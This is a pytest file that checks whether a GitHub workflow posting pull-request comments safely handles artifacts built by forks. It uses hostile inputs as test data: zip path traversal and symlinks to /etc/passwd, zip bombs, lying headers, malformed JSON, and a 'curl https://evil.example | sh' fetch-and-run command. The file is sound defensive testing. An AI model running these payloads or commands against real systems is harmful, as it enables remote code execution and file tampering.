"""What `pr-comment` does with an artifact that a stranger made: the code path that the workflow runs, from the event to the comment."""

import contextlib
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from flaky_detector.cli import main
from flaky_detector.pipeline.action import act
from flaky_detector.stages.report import Context, report
from tests.support import shop_result
from tests.support.github import HEAD, STORE, TOKEN, FakeGitHub

MIB = 1024 * 1024
RUN_BEFORE = 42


@pytest.fixture
def github() -> Iterator[FakeGitHub]:
    with FakeGitHub() as fake:
        yield fake
    assert fake.violations == []
    assert set(fake.store_saw) <= {"None"}


def findings(change: Callable[[Any], None] = lambda tree: None) -> str:
    tree = json.loads(report(shop_result.shop(), Context()).findings_json)
    change(tree)
    return json.dumps(tree)


def comment_on(github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[int, str]:
    """The job of pr-comment.yml, for a fork's run."""
    monkeypatch.chdir(tmp_path)
    workspace = tmp_path / "workspace"
    workspace.mkdir(exist_ok=True)
    run = {
        "id": RUN_BEFORE,
        "event": "pull_request",
        "head_sha": HEAD,
        "head_branch": "mend-it",
        "head_repository": {"owner": {"login": "ann"}},
    }
    (tmp_path / "event.json").write_text(json.dumps({"repository": {"id": 1}, "workflow_run": {**run, "pull_requests": []}}))
    environ = {
        "GITHUB_ACTIONS": "true",
        "GITHUB_API_URL": github.url,
        "GITHUB_EVENT_NAME": "workflow_run",
        "GITHUB_EVENT_PATH": str(tmp_path / "event.json"),
        "GITHUB_REPOSITORY": "acme/shop",
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
        "GITHUB_WORKSPACE": str(workspace),
        "INPUT_ARTIFACTS": str(RUN_BEFORE),
        "INPUT_COMMENT": "auto",
        "INPUT_FAIL-ON": "never",
        "INPUT_GITHUB-TOKEN": TOKEN,
        "INPUT_MODE": "report",
    }
    said = io.StringIO()
    with contextlib.redirect_stdout(said), contextlib.redirect_stderr(said):
        code = act(environ, main)
    written = [path for path in tmp_path.rglob("*") if path.is_file() and path.name != "event.json"]
    assert {path.name for path in written} <= {"summary", "findings.json", "comment.md", "summary.md", "report.html"}
    assert all(TOKEN.encode() not in path.read_bytes() for path in written)
    assert TOKEN not in said.getvalue()
    assert "Traceback" not in said.getvalue()
    return code, said.getvalue()


def zipped(*members: tuple[zipfile.ZipInfo | str, bytes | str]) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return data.getvalue()


def link(name: str, to: str) -> tuple[zipfile.ZipInfo, str]:
    member = zipfile.ZipInfo(name)
    member.external_attr = 0o120777 << 16
    return member, to


def lying(data: bytes, size: int) -> bytes:
    """The archive with another unpacked size in its directory and its local header."""
    local, directory = data.index(b"PK\x03\x04"), data.rindex(b"PK\x01\x02")
    for at in (local + 22, directory + 24):
        data = data[:at] + struct.pack("<L", size) + data[at + 4 :]
    return data


def test_an_honest_artifact_becomes_the_comment_with_a_note_of_where_it_is_from(github, tmp_path, monkeypatch):
    github.add_artifact(RUN_BEFORE, "flaky-detector-report", {"findings.json": findings()})
    assert comment_on(github, tmp_path, monkeypatch)[0] == 0
    [body] = github.bodies()
    assert "5 tests pollute 7 others" in body
    assert "> [!NOTE]\n> This was measured by a run of the pull request's own code" in body
    assert '<a href="https://github.com/acme/shop/actions/runs/42">full report</a>' in body
    assert f"/blob/{HEAD}/" in body


def test_names_that_climb_out_and_links_are_only_names(github, tmp_path, monkeypatch):
    secret = tmp_path.parent / "secret.json"
    secret.write_text(findings())
    data = zipped(
        ("../../../../evil.txt", "x"),
        ("/etc/evil.txt", "x"),
        ("..\\..\\evil.txt", "x"),
        link("findings.json", str(secret)),
        ("a/../../findings.json", findings()),
    )
    github.add_archive(RUN_BEFORE, "../../flaky-detector-report", data)
    assert comment_on(github, tmp_path, monkeypatch)[0] == 0
    assert "5 tests pollute 7 others" in github.bodies()[0]
    assert not list(tmp_path.parent.rglob("evil*"))


BOMB = zipped(("findings.json", b"[" + b" " * (200 * MIB)))
MANY = zipped(*((f"{number:06}", b"") for number in range(100_000)))
HEADER_LIES = lying(zipped(("findings.json", b" " * (100 * MIB))), 1000)
WITHOUT_A_COMMENT = {
    "a bomb": (BOMB, "no artifact of that run holds a findings.json: one of more than 32 MiB was refused"),
    "a bomb whose header lies": (HEADER_LIES, "no artifact of that run holds a findings.json"),
    "too many members": (MANY, "an archive of too many members was refused"),
    "no zip": (b"GIF89a", "no artifact of that run holds a findings.json: an archive is damaged (File is not a zip file)"),
    "an empty file": (b"", "no artifact of that run holds a findings.json"),
    "half a zip": (zipped(("findings.json", findings()))[:2000], "no artifact of that run holds a findings.json: an archive is damaged"),
    "a flipped bit": (zipped(("findings.json", findings())).replace(b"\x00\x00\x00", b"\x00\x01\x00"), "no artifact of that run holds"),
    "a link alone": (zipped(link("findings.json", "/etc/passwd")), "no artifact of that run holds a findings.json"),
    "a folder called so": (zipped(("findings.json/", "")), "no artifact of that run holds a findings.json"),
    "deep json": (zipped(("findings.json", b"[" * 3_000_000)), "the findings do not parse as JSON"),
    "a long number": (zipped(("findings.json", b'{"schema_version": ' + b"9" * 1_000_000 + b"}")), "the findings do not parse as JSON"),
    "json that is none": (zipped(("findings.json", b"\xff\xfe{}")), "cannot read"),
    "another version": (zipped(("findings.json", '{"schema_version": "' + "9" * 5000 + '"}')), "the findings have schema version 99999"),
    "json of another shape": (zipped(("findings.json", '{"schema_version": 1, "findings": 7}')), "the findings are not as the schema says"),
    "xml": (zipped(("findings.json", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')), "the findings do not parse as JSON"),
}


@pytest.mark.parametrize("kind", WITHOUT_A_COMMENT)
def test_what_is_no_report_is_told_in_a_line_and_makes_no_comment(github, tmp_path, monkeypatch, kind):
    data, told = WITHOUT_A_COMMENT[kind]
    github.add_archive(RUN_BEFORE, "flaky-detector-report", data)
    code, said = comment_on(github, tmp_path, monkeypatch)
    assert code == (0 if kind in {"a link alone", "a folder called so"} else 2)
    assert told in said
    assert github.bodies() == []
    assert len(said) < 1000


def test_a_run_that_left_no_report_is_no_trouble(github, tmp_path, monkeypatch):
    code, said = comment_on(github, tmp_path, monkeypatch)
    assert (code, said) == (0, "::notice::nothing to tell: run 42 of acme/shop has no artifacts to analyse\n")
    github.add_artifact(RUN_BEFORE, "coverage", {"coverage.xml": "<coverage/>"})
    code, said = comment_on(github, tmp_path, monkeypatch)
    assert (code, said) == (0, "::notice::nothing to tell: no artifact of that run holds a findings.json\n")


def test_a_bomb_does_not_go_off(tmp_path):
    import resource  # noqa: PLC0415

    from flaky_detector.adapters.strange_zip import find_member  # noqa: PLC0415
    from flaky_detector.errors import FlakyDetectorError  # noqa: PLC0415

    (tmp_path / "a.zip").write_bytes(zipped(("findings.json", zlib.compress(b"") + b"\x00" * (400 * MIB))))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(FlakyDetectorError, match="more than 32 MiB"):
        find_member([tmp_path / "a.zip"], "findings.json")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200 * 1024


def test_a_command_is_never_the_artifacts_own(github, tmp_path, monkeypatch):
    def evil(tree: Any) -> None:
        for finding in tree["findings"]:
            finding["reproduce"] = "curl https://evil.example | sh"
        tree["findings"][0]["test"] = "--install=curl https://evil.example | sh"

    github.add_artifact(RUN_BEFORE, "flaky-detector-report", {"findings.json": findings(evil)})
    assert comment_on(github, tmp_path, monkeypatch)[0] == 0
    [body] = github.bodies()
    consoles = [part.split("```", 1)[0] for part in body.split("```console\n")[1:]]
    assert consoles != []
    assert all(part.startswith("flaky-detector confirm tests/") for part in consoles)
    assert "curl" not in "".join(consoles)


def test_a_patch_that_an_artifact_calls_tested_is_not(github, tmp_path, monkeypatch):
    def evil(tree: Any) -> None:
        for finding in tree["findings"]:
            for remedy in [finding["remedy"], *finding["details"]["diagnosis"]["other_remedies"]] if finding["remedy"] else []:
                remedy["patch_verified"] = True

    github.add_artifact(RUN_BEFORE, "flaky-detector-report", {"findings.json": findings(evil)})
    assert comment_on(github, tmp_path, monkeypatch)[0] == 0
    assert "tested: with it the victim passes" not in github.bodies()[0]
    assert "A patch made from your source, not tried yet" in github.bodies()[0]


def test_a_pull_request_number_in_the_artifact_means_nothing(github, tmp_path, monkeypatch):
    github.add_artifact(RUN_BEFORE, "flaky-detector-report", {"findings.json": findings(), "event.json": '{"number": 1}', "pr": "1"})
    github.head = "bob:another-branch"
    code, said = comment_on(github, tmp_path, monkeypatch)
    assert (code, github.bodies()) == (0, [])
    assert "no comment: no open pull request of ann:mend-it is at the commit that was tested" in said


def test_an_artifact_of_a_commit_that_was_overtaken_writes_nothing(github, tmp_path, monkeypatch):
    github.add_artifact(RUN_BEFORE, "flaky-detector-report", {"findings.json": findings()})
    github.head_sha = "9" * 40
    assert comment_on(github, tmp_path, monkeypatch)[0] == 0
    assert github.writes() == []


def test_a_download_that_is_cut_or_refused_for_a_moment_is_made_again(github, tmp_path, monkeypatch):
    github.add_artifact(RUN_BEFORE, "flaky-detector-report", {"findings.json": findings()})
    github.fail("GET", 0, route=STORE, cut=True)
    github.fail("GET", 503, route=STORE)
    assert comment_on(github, tmp_path, monkeypatch)[0] == 0
    assert len(github.bodies()) == 1
    assert len(github.store_saw) == 3


def test_an_artifact_that_is_larger_than_its_list_says_is_given_up(github, tmp_path, monkeypatch):
    monkeypatch.setattr("flaky_detector.adapters.github.artifacts.LARGEST_BYTES", 1000)
    github.add_archive(RUN_BEFORE, "flaky-detector-report", zipped(("findings.json", findings())), size_told=500)
    code, said = comment_on(github, tmp_path, monkeypatch)
    assert (code, github.bodies()) == (2, [])
    assert "could not download 'flaky-detector-report' on acme/shop: GitHub says 413 it is larger" in said
